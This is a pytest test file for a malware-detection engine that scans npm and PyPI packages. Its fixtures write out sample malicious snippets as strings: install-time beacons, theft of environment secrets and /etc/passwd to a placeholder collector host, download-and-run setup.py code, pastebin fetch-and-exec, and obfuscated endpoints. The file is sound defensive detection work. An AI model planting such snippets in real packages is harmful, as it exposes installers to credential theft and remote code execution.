from __future__ import annotations

import base64

import pytest

from tests.analysis.builders import npm_tarball, run_rule, sdist
from threatfeed.analysis import Engine
from threatfeed.analysis.rules.correlation import (
    data_exfiltration_rule,
    hidden_endpoint_rule,
    install_time_beacon_rule,
    install_time_download_rule,
    obfuscated_network_code_rule,
    raw_ip_endpoint_rule,
    staging_host_rule,
)

BEACON = (
    "const os = require('os');\nconst https = require('https');\n"
    "https.request({ host: 'x.example.net', path: '/' + os.hostname() }).end();\n"
)


def test_beacon_in_install_script(engine: Engine) -> None:
    archive = npm_tarball({"pre.js": BEACON}, scripts={"preinstall": "node pre.js"})
    evidence = run_rule(engine, install_time_beacon_rule, archive)
    assert evidence[0]["file"] == "package/pre.js"
    assert {"network", "recon"} <= set(evidence[0]["capabilities"])


@pytest.mark.parametrize(
    "binding",
    [
        "const kq3x = require('https');",
        "const kq3x = require('node:https');",
        "import kq3x from 'https';",
        'const kq3x = require("net");',
    ],
)
def test_beacon_through_a_module_bound_to_any_name(engine: Engine, binding: str) -> None:
    code = BEACON.replace("const https = require('https');", binding).replace("https.", "kq3x.")
    archive = npm_tarball({"pre.js": code}, scripts={"preinstall": "node pre.js"})
    assert run_rule(engine, install_time_beacon_rule, archive)


def test_a_local_module_named_like_a_network_one_is_no_network(engine: Engine) -> None:
    local = "const kq3x = require('./https');"
    code = BEACON.replace("const https = require('https');", local).replace("https.", "kq3x.")
    archive = npm_tarball({"pre.js": code}, scripts={"preinstall": "node pre.js"})
    assert run_rule(engine, install_time_beacon_rule, archive) is None


def test_same_code_in_a_test_file_is_no_beacon(engine: Engine) -> None:
    archive = npm_tarball({"test/net.test.js": BEACON})
    assert run_rule(engine, install_time_beacon_rule, archive) is None


def test_beacon_in_an_ordinary_javascript_module(engine: Engine) -> None:
    """A Node module run later (not at install) that sends the host name still beacons."""
    archive = npm_tarball({"lib/report.js": BEACON})
    evidence = run_rule(engine, install_time_beacon_rule, archive)
    assert evidence[0]["file"] == "package/lib/report.js"


def test_javascript_of_a_pypi_package_is_served_to_browsers_not_run(engine: Engine) -> None:
    archive = sdist({"tidy_strings/static/app.js": BEACON})
    assert run_rule(engine, install_time_beacon_rule, archive) is None


def test_python_module_with_hostname_and_requests_is_no_beacon(engine: Engine) -> None:
    """Python networking libraries use the host name routinely (SMTP HELO, SSH, builds)."""
    code = (
        "import socket\nimport requests\n"
        "requests.post('https://x.example.net', data=socket.gethostname())\n"
    )
    assert run_rule(engine, install_time_beacon_rule, sdist({"t/lib/ident.py": code})) is None


def test_recon_and_network_in_different_files_do_not_correlate(engine: Engine) -> None:
    archive = npm_tarball(
        {
            "a.js": "const os = require('os'); module.exports = os.hostname();\n",
            "b.js": "require('https').get('https://x.example.net');\n",
        },
        scripts={"preinstall": "node a.js && node b.js"},
    )
    assert run_rule(engine, install_time_beacon_rule, archive) is None


def test_token_grabber_sending_to_a_webhook(engine: Engine) -> None:
    code = (
        "import requests\n"
        "pattern = r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}'\n"
        "requests.post('https://x.example.net/hook', json={'t': pattern})\n"
    )
    evidence = run_rule(engine, data_exfiltration_rule, sdist({"t/grab.py": code}))
    assert {"harvest", "network"} <= set(evidence[0]["capabilities"])


def test_ssh_client_library_is_no_exfiltration(engine: Engine) -> None:
    code = (
        "import socket, os\n"
        "KEY = os.path.expanduser('~/.ssh/id_rsa')\n"
        "def connect(host):\n    s = socket.socket()\n    s.connect((host, 22))\n"
    )
    assert run_rule(engine, data_exfiltration_rule, sdist({"t/client.py": code})) is None


def test_setup_py_that_downloads_and_runs(engine: Engine) -> None:
    setup_py = (
        "import os, urllib.request\nfrom setuptools import setup\n"
        "urllib.request.urlretrieve('https://x.example.net/t', 't')\nos.system('t')\n"
        "setup(name='x', version='1')\n"
    )
    assert run_rule(engine, install_time_download_rule, sdist(setup_py=setup_py))
    assert run_rule(engine, install_time_download_rule, sdist()) is None


def test_sending_to_a_public_address(engine: Engine) -> None:
    code = "import requests\nrequests.post('http://45.12.77.3:8080/c', data='x')\n"
    assert run_rule(engine, raw_ip_endpoint_rule, sdist({"t/c.py": code}))
    local = code.replace("45.12.77.3", "127.0.0.1")
    assert run_rule(engine, raw_ip_endpoint_rule, sdist({"t/c.py": local})) is None


def test_install_script_sending_the_environment_is_exfiltration(engine: Engine) -> None:
    script = (
        "const h = require('https');\n"
        "var all = process['en' + 'v'] || {};\n"
        "h.request({ host: 'x.example.net', method: 'POST' }).write(JSON.stringify(all));\n"
    )
    archive = npm_tarball({"b.js": script}, scripts={"preinstall": "node b.js"})
    evidence = run_rule(engine, data_exfiltration_rule, archive)
    assert {"harvest", "network"} <= set(evidence[0]["capabilities"])


def test_module_posting_to_a_public_address_is_flagged_but_not_in_tests(engine: Engine) -> None:
    """A collector reached by address from library code flags; the same call in a test does not."""
    code = (
        "import requests\n\ndef check(k):\n    requests.post('http://45.12.77.3:8000/v', json=k)\n"
    )
    assert engine.analyze(sdist({"tidy_strings/core.py": code})).flagged
    assert not engine.analyze(sdist({"tests/test_core.py": code})).flagged


def test_sending_to_a_url_spelled_in_base64(engine: Engine) -> None:
    """``aHR0cHM6Ly`` is ``https://`` in base64: the address is hidden from reviewers."""
    hidden = base64.b64encode(b"https://collector.example.net/up").decode()
    code = f"import base64, requests\nrequests.post(base64.b64decode('{hidden}').decode())\n"
    evidence = run_rule(engine, hidden_endpoint_rule, sdist({"tidy_strings/up.py": code}))
    assert {"hidden_url", "network"} <= set(evidence[0]["capabilities"])
    assert engine.analyze(sdist({"tidy_strings/up.py": code})).flagged
    plain = "import requests\nrequests.post('https://collector.example.net/up')\n"
    assert run_rule(engine, hidden_endpoint_rule, sdist({"tidy_strings/up.py": plain})) is None
    stored = f"FIXTURE = '{hidden}'\n"
    assert run_rule(engine, hidden_endpoint_rule, sdist({"tidy_strings/up.py": stored})) is None


def test_base64_endpoint_flags_alone_in_an_ordinary_module_not_in_a_test(engine: Engine) -> None:
    hidden = base64.b64encode(b"https://collector.example.net/up").decode()
    code = f"import base64, requests\nrequests.post(base64.b64decode('{hidden}').decode())\n"
    body = "".join(f"def pad_{i}(text):\n    return text.rjust({i})\n\n" for i in range(80))
    module = engine.analyze(sdist({"tidy_strings/net/sync.py": code, "tidy_strings/pad.py": body}))
    assert "trivial_package_rule" not in module.indicators
    assert module.flagged, module.score
    in_test = engine.analyze(sdist({"tests/test_sync.py": code, "tidy_strings/pad.py": body}))
    assert not in_test.flagged


def test_fetching_from_a_paste_site_in_a_module(engine: Engine) -> None:
    code = "import requests\nexec_me = requests.get('https://pastebin.com/raw/AbCd1234').text\n"
    evidence = run_rule(engine, staging_host_rule, sdist({"tidy_strings/net.py": code}))
    assert evidence[0]["file"].endswith("tidy_strings/net.py")
    assert engine.analyze(sdist({"tidy_strings/net.py": code})).flagged
    mention = "# paste logs to https://pastebin.com/raw/AbCd1234 when reporting a bug\n"
    assert run_rule(engine, staging_host_rule, sdist({"tidy_strings/net.py": mention})) is None
    assert run_rule(engine, staging_host_rule, sdist({"tests/test_net.py": code})) is None


def test_messenger_bot_library_is_no_staging_host(engine: Engine) -> None:
    code = "import requests\nrequests.post('https://api.telegram.org/bot' + token + '/getMe')\n"
    assert run_rule(engine, staging_host_rule, sdist({"tidy_strings/bot.py": code})) is None


def test_requests_from_code_that_spells_names_in_character_codes(engine: Engine) -> None:
    codes = ", ".join(str(ord(c)) for c in "https://x.example.net")
    hidden = (
        "import requests\n"
        f"u = ''.join([chr(c) for c in [{codes}]])\n"
        "requests.post(u, data={'k': 1})\n"
    )
    evidence = run_rule(engine, obfuscated_network_code_rule, sdist({"tidy/net.py": hidden}))
    assert evidence[0]["file"].endswith("tidy/net.py")
    plain = "import requests\nrequests.post('https://x.example.net', data={'k': 1})\n"
    assert run_rule(engine, obfuscated_network_code_rule, sdist({"tidy/net.py": plain})) is None
    assert run_rule(engine, obfuscated_network_code_rule, sdist({"tests/t_net.py": hidden})) is None


def test_socket_to_an_address_held_in_its_own_string(engine: Engine) -> None:
    """``HOST = "45.12.77.3"`` then ``socket.create_connection((HOST, PORT))``: how a
    reverse shell or a dropper names its server without writing a URL."""
    code = (
        "import os, socket\nHOST = os.getenv('H', '45.12.77.3')\n"
        "s = socket.create_connection((HOST, 4444))\n"
    )
    evidence = run_rule(engine, raw_ip_endpoint_rule, sdist({"t/c.py": code}))
    assert evidence[0]["file"].endswith("t/c.py")
    assert "network" in evidence[0]["capabilities"]


def test_addresses_that_identify_nobody_do_not_correlate(engine: Engine) -> None:
    """Private and placeholder addresses, OID-like strings in files without network code,
    and the same address in a shell script stay out."""
    cases = {
        "t/a.py": "import socket\nsocket.create_connection(('192.168.1.20', 80))\n",
        "t/b.py": "import socket\nEXAMPLE = ('1.2.3.4', 123)\nsocket.create_connection(EXAMPLE)\n",
        "t/oid.py": "SECP = '1.3.132.10'\n",
        "t/s.sh": "HOST='45.12.77.3'\ncurl -s https://x.example.net/a\n",
        "t/guard.py": "import ipaddress, socket\nBLOCKED = {ipaddress.ip_address('45.12.77.3')}\n"
        "socket.create_connection((host, 80))\n",
        "t/doc.py": "import socket\n# e.g. ('45.12.77.3', 0)\nsocket.create_connection((h, 80))\n",
    }
    for path, code in cases.items():
        assert run_rule(engine, raw_ip_endpoint_rule, sdist({path: code})) is None, path


def test_requests_imported_by_name_counts_as_network(engine: Engine) -> None:
    """``from requests import post`` then ``post(...)``: the same call without the module."""
    url = base64.b64encode(b"https://x.example.net/collect").decode()
    code = (
        "import base64\nfrom requests import post\n"
        f"post(base64.b64decode('{url}').decode(), json={{'k': 1}})\n"
    )
    evidence = run_rule(engine, hidden_endpoint_rule, sdist({"t/h.py": code}))
    assert "network" in evidence[0]["capabilities"]


def test_beacon_surveying_the_machine_weighs_more_than_a_host_tag(engine: Engine) -> None:
    """Host, user, interfaces and working folder sent together are an inventory of the
    machine; a request tagged with the host name alone is what loggers do."""
    from tests.analysis.builders import package
    from threatfeed.analysis.scoring import rule_points

    survey = BEACON.replace(
        "'/' + os.hostname()",
        "'/' + [os.hostname(), os.userInfo().username, process.cwd()].join('/')",
    )

    def points(code: str) -> float:
        found = install_time_beacon_rule(package(engine, npm_tarball({"lib/r.js": code})))
        assert found is not None
        return rule_points(found)

    assert points(survey) > points(BEACON)
    assert points(survey) >= 9


def test_public_address_url_next_to_shell_commands(engine: Engine) -> None:
    """A module holding a raw-address URL and running commands is a command-and-control
    client even when its HTTP library is loaded under a decoded name."""
    code = (
        "const run = require('child_process').exec;\nconst http = require(names[3]);\n"
        "const C2 = 'http://45.12.77.3:3000';\n"
    )
    evidence = run_rule(engine, raw_ip_endpoint_rule, npm_tarball({"lib/c.js": code}))
    assert "exec" in evidence[0]["capabilities"]
    local = code.replace("45.12.77.3", "127.0.0.1")
    assert run_rule(engine, raw_ip_endpoint_rule, npm_tarball({"lib/c.js": local})) is None


def test_paste_site_stage_that_the_same_file_runs_weighs_more(engine: Engine) -> None:
    from tests.analysis.builders import package
    from threatfeed.analysis.scoring import rule_points

    fetch = "import requests\ncode = requests.get('https://pastebin.com/raw/abc123').text\n"
    run = fetch + "import subprocess\nsubprocess.run(['python', '-c', code])\n"
    points = []
    for code in (run, fetch):
        found = staging_host_rule(package(engine, sdist({"t/p.py": code})))
        assert found is not None
        points.append(rule_points(found))
    assert points[0] > points[1]


def test_harvest_sent_through_a_fronted_host(engine: Engine) -> None:
    """``/etc/passwd`` posted to a trusted URL whose Host header names the real collector."""
    code = (
        "from urllib import request\npwd = open('/etc/passwd').read()\n"
        "r = request.Request('https://pypi.example.org', data=pwd.encode(),\n"
        "    headers={'Host': 'collector.example.net'})\nrequest.urlopen(r)\n"
    )
    evidence = run_rule(engine, data_exfiltration_rule, sdist({"t/i.py": code}))
    assert {"exfil", "harvest"} <= set(evidence[0]["capabilities"])
    plain = code.replace("'Host': 'collector.example.net'", "'Accept': 'text/plain'")
    assert run_rule(engine, data_exfiltration_rule, sdist({"t/i.py": plain})) is None


FQDN_SETUP = (
    "import atexit, socket, urllib.request\nfrom setuptools import setup\n\n"
    "def _after():\n"
    "    name = socket.getfqdn()\n"
    "{send}"
    "atexit.register(_after)\nsetup(name='tidy-strings', version='0.4.0')\n"
)


def test_fully_qualified_host_name_sent_at_install_is_a_beacon(engine: Engine) -> None:
    """``getfqdn()`` names the machine and its company's domain: dependency-confusion probes
    send it."""
    send = "    urllib.request.urlopen('https://x.example.net/logo.png?' + name)\n"
    archive = sdist(setup_py=FQDN_SETUP.format(send=send))
    evidence = run_rule(engine, install_time_beacon_rule, archive)
    assert {"network", "recon"} <= set(evidence[0]["capabilities"])
    assert engine.analyze(archive).flagged


def test_fully_qualified_host_name_kept_local_at_install_is_no_beacon(engine: Engine) -> None:
    archive = sdist(setup_py=FQDN_SETUP.format(send="    print(name)\n"))
    assert run_rule(engine, install_time_beacon_rule, archive) is None


def test_a_four_part_version_is_no_server_address(engine: Engine) -> None:
    setup_py = (
        "import urllib.request\nfrom setuptools import setup\n\n"
        "setup(name='types-tidy', version='1.26.25.14')\n"
    )
    assert run_rule(engine, raw_ip_endpoint_rule, sdist(setup_py=setup_py)) is None
    server = setup_py.replace("version='1.26.25.14'", "version='1.0'")
    server += "HOST = '45.12.77.3'\nurllib.request.urlopen('http://' + HOST)\n"
    assert run_rule(engine, raw_ip_endpoint_rule, sdist(setup_py=server))


def test_the_home_folder_rooting_a_cache_path_is_no_beacon(engine: Engine) -> None:
    install = (
        "const os = require('os');\nconst path = require('path');\n"
        "const https = require('https');\n"
        "const cache = path.join(os.homedir(), '.cache', 'runner');\n"
        "https.get('https://downloads.example.net/runner.zip', (r) => r.pipe(save(cache)));\n"
    )
    archive = npm_tarball({"install.js": install}, scripts={"postinstall": "node install.js"})
    assert run_rule(engine, install_time_beacon_rule, archive) is None
    sent = install.replace(
        "https.get('https://downloads.example.net/runner.zip'",
        "https.get('https://x.example.net/?h=' + os.homedir()",
    )
    archive = npm_tarball({"install.js": sent}, scripts={"postinstall": "node install.js"})
    assert run_rule(engine, install_time_beacon_rule, archive)


def test_secret_variables_picked_out_of_the_environment_and_sent_are_exfiltration(
    engine: Engine,
) -> None:
    code = (
        "const secrets = Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET/.test(k));\n"
        "fetch('https://x.example.net/u', { method: 'POST', body: JSON.stringify(secrets) });\n"
    )
    archive = npm_tarball({"bin/cli.js": code}, manifest={"bin": {"cli": "bin/cli.js"}})
    assert run_rule(engine, data_exfiltration_rule, archive)
